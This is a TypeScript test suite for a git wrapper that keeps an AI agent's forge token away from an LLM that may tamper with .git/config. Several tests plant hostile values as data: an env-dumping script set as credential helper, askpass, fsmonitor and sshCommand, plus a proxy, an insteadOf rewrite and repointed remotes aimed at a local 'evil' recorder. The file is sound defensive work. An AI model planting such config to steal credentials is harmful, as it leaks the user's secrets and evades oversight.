// Where the agent's secret may be: in the environment of the git children that talk to the
// forge, nowhere else — not in argv, the remote URL, .git/config, any file in the tree or the
// private HOME, error messages or log lines; and not handed to a credential helper, askpass
// program, proxy or URL rewrite that the LLM wrote into .git/config.
import { describe, it, before, after } from "node:test";
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { execFileSync } from "node:child_process";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { mkdtemp, mkdir, rm, writeFile, readFile, readdir, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { forgeFixture, type ForgeFixture } from "./forge-fixture.ts";
import { Git, GitError, type GitAuth } from "../../src/git/index.ts";
import { MASK, Redactor } from "../../src/lib/redact.ts";

let fx: ForgeFixture;
let work: string;
let auth: GitAuth;
let secret: string;
const identity = { name: "Dev Bot", email: "dev-bot@sandbox.invalid" };
const canary = `canary-${randomUUID()}`;
const opened: Git[] = [];

before(async () => {
  fx = await forgeFixture();
  work = await mkdtemp(join(tmpdir(), "git-cred-"));
  secret = fx.sandbox.users["dev-bot"]?.token ?? "";
  assert.ok(secret.length > 20);
  auth = { username: "dev-bot", secret };
  // A secret of the parent process that no git child may inherit.
  process.env.DISINTO_TEST_PARENT_TOKEN = canary;
});
after(async () => {
  delete process.env.DISINTO_TEST_PARENT_TOKEN;
  await Promise.all(opened.map((g) => g.dispose()));
  await fx.stop();
  await rm(work, { recursive: true, force: true });
});

async function newRepo(): Promise<{ name: string; url: string }> {
  const name = `c-${randomUUID().slice(0, 8)}`;
  await fx.dev.createRepo({ name, autoInit: true });
  return { name, url: `${fx.sandbox.url}/dev-bot/${name}.git` };
}

/** Every file below `dir` (symlinks not followed). */
async function files(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) out.push(...(await files(p)));
    else if (e.isFile()) out.push(p);
  }
  return out;
}

function subcommand(argv: string[]): string {
  for (let i = 0; i < argv.length; i++) {
    if (argv[i] === "-c" || argv[i] === "-C") i++;
    else if (!argv[i]?.startsWith("-")) return argv[i] ?? "?";
  }
  return "?";
}

describe("git: the secret stays in the network children's environment", () => {
  it("never in argv; in the environment only of clone/fetch/push/ls-remote; the parent's environment is not inherited", async () => {
    const realGit = execFileSync("sh", ["-c", "command -v git"], { encoding: "utf8" }).trim();
    const logDir = await mkdtemp(join(work, "argv-"));
    const wrapper = join(logDir, "git-wrapper");
    // Records each invocation's argv and environment (NUL-separated), then runs the real git.
    await writeFile(wrapper, `#!/bin/sh\nprintf '%s\\0' "$@" > '${logDir}'/$$.argv\nenv -0 > '${logDir}'/$$.env\nexec '${realGit}' "$@"\n`, { mode: 0o755 });

    const repo = await newRepo();
    const lines: string[] = [];
    const redactor = new Redactor();
    const g = await Git.clone({ url: repo.url, dir: join(work, "wrapped"), auth, identity, gitBinary: wrapper, redactor, log: (l) => lines.push(l) });
    opened.push(g);
    assert.ok(redactor.values.includes(secret), "the caller's redactor learns the secret");
    await g.checkoutNewBranch("wrapped", "origin/main");
    await writeFile(join(g.dir, "w.txt"), "w\n");
    await g.commitAll("wrapped");
    await g.push("wrapped");
    await g.fetch();
    assert.equal(await g.remoteBranchSha("wrapped"), await g.head());
    assert.deepEqual(await g.changedPaths(), []);

    const calls = (await readdir(logDir)).filter((f) => f.endsWith(".argv"));
    assert.ok(calls.length >= 10, `expected the wrapper to see every call, saw ${calls.length}`);
    const network = new Set<string>();
    for (const f of calls) {
      const argv = (await readFile(join(logDir, f), "utf8")).split("\0").slice(0, -1);
      const env = (await readFile(join(logDir, f.replace(/\.argv$/, ".env")), "utf8")).split("\0");
      const sub = subcommand(argv);
      assert.ok(!argv.join(" ").includes(secret), `secret in argv of git ${sub}`);
      assert.ok(!argv.join(" ").includes(canary));
      assert.ok(!env.some((v) => v.includes(canary)), `parent environment leaked into git ${sub}`);
      assert.ok(env.includes(`HOME=${g.home}`), `git ${sub} did not get the private HOME`);
      assert.ok(env.includes("GIT_TERMINAL_PROMPT=0"));
      if (env.some((v) => v.includes(secret))) network.add(sub);
    }
    assert.deepEqual([...network].sort(), ["clone", "fetch", "ls-remote", "push"]);
    assert.ok(lines.length >= calls.length - 1 && lines.every((l) => !l.includes(secret)));
    assert.ok(lines.some((l) => /^git push → exit 0/.test(l)), lines.join("\n"));
  });

  it("no file in the working tree, .git or the private HOME holds it; the remote URL is clean", async () => {
    const repo = await newRepo();
    const g = await Git.clone({ url: repo.url, dir: join(work, "scan"), auth, identity });
    opened.push(g);
    await writeFile(join(g.dir, "s.txt"), "s\n");
    await g.commitAll("scan");
    await g.push("scan");
    await g.fetch();
    const encoded = [secret, encodeURIComponent(secret), Buffer.from(`dev-bot:${secret}`).toString("base64")];
    assert.ok(g.gitDir !== undefined);
    const all = [...(await files(g.dir)), ...(await files(g.home)), ...(await files(g.gitDir))];
    assert.ok(all.some((f) => f === join(g.gitDir ?? "", "config")));
    for (const f of all) {
      const content = await readFile(f, "latin1");
      for (const e of encoded) assert.ok(!content.includes(e), `${f} contains the secret`);
    }
    const config = await readFile(join(g.gitDir, "config"), "utf8");
    assert.match(config, new RegExp(`url = ${repo.url.replace(/[.]/g, "\\.")}\\n`));
    assert.doesNotMatch(config, /credential|@/);
    assert.equal((await stat(g.home)).mode & 0o077, 0, "the private HOME is not readable by others");
    await g.dispose();
    await assert.rejects(stat(g.home), { code: "ENOENT" });
  });

  it("error messages and stderr are redacted", async () => {
    const repo = await newRepo();
    const g = await Git.clone({ url: repo.url, dir: join(work, "redact"), auth, identity });
    opened.push(g);
    // git echoes an unknown pathspec: the only way to make it print the secret is to pass it.
    await assert.rejects(g.run(["checkout", secret]), (e: unknown) => e instanceof GitError && !e.message.includes(secret) && e.message.includes(MASK) && !e.stderrTail.includes(secret));
    const soft = await g.run(["checkout", secret], { allowFail: true });
    assert.notEqual(soft.code, 0);
    assert.ok(!soft.stderr.includes(secret) && soft.stderr.includes(MASK));
  });
});

describe("git: what the LLM writes into .git/config cannot reach the secret", () => {
  let recorder: Server;
  let recorded: { url: string; authorization: string | undefined }[];
  let recorderUrl: string;
  before(async () => {
    recorded = [];
    recorder = createServer((req, res) => {
      recorded.push({ url: req.url ?? "", authorization: req.headers.authorization ?? req.headers["proxy-authorization"] });
      res.writeHead(401, { "WWW-Authenticate": 'Basic realm="evil"' });
      res.end("who are you\n");
    });
    await new Promise<void>((resolve) => recorder.listen(0, "127.0.0.1", resolve));
    recorderUrl = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`;
  });
  after(async () => {
    await new Promise<void>((resolve) => recorder.close(() => resolve()));
  });

  it("helpers, askpass, fsmonitor, a proxy and a rewritten origin are ignored; the push goes to the pinned repo", async () => {
    const repo = await newRepo();
    const other = await newRepo();
    const g = await Git.clone({ url: repo.url, dir: join(work, "tampered"), auth, identity });
    opened.push(g);
    const leak = join(work, `leak-${randomUUID().slice(0, 6)}`);
    const evil = join(work, `evil-${randomUUID().slice(0, 6)}.sh`);
    await writeFile(evil, `#!/bin/sh\nenv >> '${leak}'\necho x\n`, { mode: 0o755 });
    const origin = new URL(repo.url).origin;
    for (const [k, v] of [
      ["credential.helper", `!${evil}`],
      [`credential.${origin}.helper`, `!${evil}`],
      ["core.askPass", evil],
      ["core.fsmonitor", evil],
      ["core.sshCommand", evil],
      ["http.proxy", recorderUrl],
      [`http.${repo.url}.proxy`, recorderUrl],
      ["remote.origin.url", other.url],
      ["remote.origin.pushurl", other.url],
    ] as const) {
      await g.run(["config", "--add", k, v]);
    }
    await writeFile(join(g.dir, "t.txt"), "t\n");
    const sha = await g.commitAll("tampered");
    await g.push("tampered");
    await g.fetch();
    assert.equal(await g.remoteBranchSha("tampered"), sha);
    assert.equal((await fx.dev.repo({ owner: "dev-bot", name: repo.name }).branches.get("tampered"))?.commitSha, sha);
    assert.equal(await fx.dev.repo({ owner: "dev-bot", name: other.name }).branches.get("tampered"), undefined);
    await assert.rejects(stat(leak), { code: "ENOENT" }, "a program from .git/config ran with git's environment");
    assert.deepEqual(recorded, []);
  });

  it("a URL rewrite (insteadOf) to another host gets no credentials: the helper answers only for the forge", async () => {
    const repo = await newRepo();
    const g = await Git.clone({ url: repo.url, dir: join(work, "rewritten"), auth, identity });
    opened.push(g);
    await g.run(["config", `url.${recorderUrl}/.insteadOf`, `${new URL(repo.url).origin}/`]);
    await writeFile(join(g.dir, "r.txt"), "r\n");
    await g.commitAll("rewritten");
    await assert.rejects(g.push("rewritten"), (e: unknown) => e instanceof GitError && !e.message.includes(secret));
    assert.ok(recorded.length > 0, "the rewrite did not take effect: the test proves nothing");
    assert.deepEqual(recorded.filter((r) => r.authorization !== undefined), []);
    assert.equal(await fx.dev.repo({ owner: "dev-bot", name: repo.name }).branches.get("rewritten"), undefined);
  });

  it("a tree whose .git was removed still commits into the runner's own git dir, never an enclosing repository", async () => {
    const repo = await newRepo();
    // The clone lives inside another repository; deleting its .git must not make git use that one.
    const outer = join(work, `outer-${randomUUID().slice(0, 6)}`);
    await mkdir(outer);
    execFileSync("git", ["init", "--quiet", outer]);
    const g = await Git.clone({ url: repo.url, dir: join(outer, "inner"), auth, identity });
    opened.push(g);
    await rm(join(g.dir, ".git"), { recursive: true, force: true });
    await writeFile(join(g.dir, "x.txt"), "x\n");
    const sha = await g.commitAll("into the right repo");
    assert.equal((await g.log("HEAD~1..HEAD"))[0]?.sha, sha);
    // the outer repository got nothing: the clone (and its git dir beside it) are untracked there
    const outerStatus = execFileSync("git", ["-C", outer, "status", "--porcelain"], { encoding: "utf8", env: { PATH: process.env.PATH ?? "", HOME: work, GIT_CONFIG_NOSYSTEM: "1" } });
    assert.deepEqual(outerStatus.trim().split("\n").map((l) => l.replace(/-git-\w+\/$/, "-git-*/")).sort(), ["?? .inner-git-*/", "?? inner/"]);
  });
});
